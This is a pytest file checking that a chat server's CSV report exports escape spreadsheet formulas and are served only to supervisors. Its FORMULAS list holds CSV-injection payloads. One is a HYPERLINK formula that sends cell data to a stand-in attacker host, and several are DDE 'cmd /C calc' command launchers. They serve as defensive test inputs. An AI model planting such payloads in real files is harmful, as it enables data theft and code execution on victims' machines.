"""Tables for spreadsheets: whatever people wrote is text there, and nobody else is given any (item 54)."""

import csv
import io
from typing import Any, Final

import pytest

from chat_server.domain.ids import read
from tests.api.harness import T0
from tests.api.test_reports import TODAY, resolved, store
from tests.factories import Town

FORMULAS: Final = (
    '=HYPERLINK("https://evil.example?"&A1,"prize")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=1+1","=1+1',
    "=1+1\r\n=1+1",
)


async def tables(town: Town) -> dict[str, bytes]:
    """Every table of this month."""
    supervisor = await town.colleague()
    month = {"from": TODAY.replace(day=1).isoformat(), "to": TODAY.isoformat()}
    found = {}
    for kind in ("episodes", "agents", "days", "csat"):
        answer = await supervisor.api.get("/console/reports/export", params={**month, "kind": kind})
        assert answer.status_code == 200, answer.text
        found[kind] = answer.content
    return found


@pytest.mark.parametrize("formula", FORMULAS)
async def test_item_54_no_cell_of_a_table_is_carried_out(town: Town, formula: str) -> None:
    parley, visitor = town.parley, await town.visitor()
    agent = await town.colleague("agent")
    me: dict[str, Any] = (await agent.api.get("/console/me")).json()
    await resolved(visitor, parley, T0)
    name = (formula, read(me["id"]))
    store(parley, "UPDATE people SET name = ? WHERE id = ?", name)
    store(parley, "UPDATE teams SET name = ?", (formula,))
    store(
        parley,
        "UPDATE episodes SET agent_id = ?, csat = 1, comment = ?, rated_at = ?",
        (read(me["id"]), formula, T0),
    )

    for kind, content in (await tables(town)).items():
        text = content.decode()
        assert text.startswith("\ufeff")
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))
        assert len({len(row) for row in rows}) == 1
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert (f"'{formula}" in cells) == (kind != "days")


async def test_item_54_a_table_is_given_to_supervisors_alone_and_kept_by_nobody(town: Town) -> None:
    agent, supervisor = await town.colleague("agent"), await town.colleague()
    path = "/console/reports/export?kind=csat&from=2027-01-01&to=2027-01-31"

    assert (await agent.api.get(path)).status_code == 403
    assert (await town.parley.client().get(path)).status_code == 401
    given = await supervisor.api.get(path)
    assert given.headers["cache-control"] == "no-store"
    assert given.headers["content-disposition"].startswith("attachment; ")
    assert given.headers["x-content-type-options"] == "nosniff"
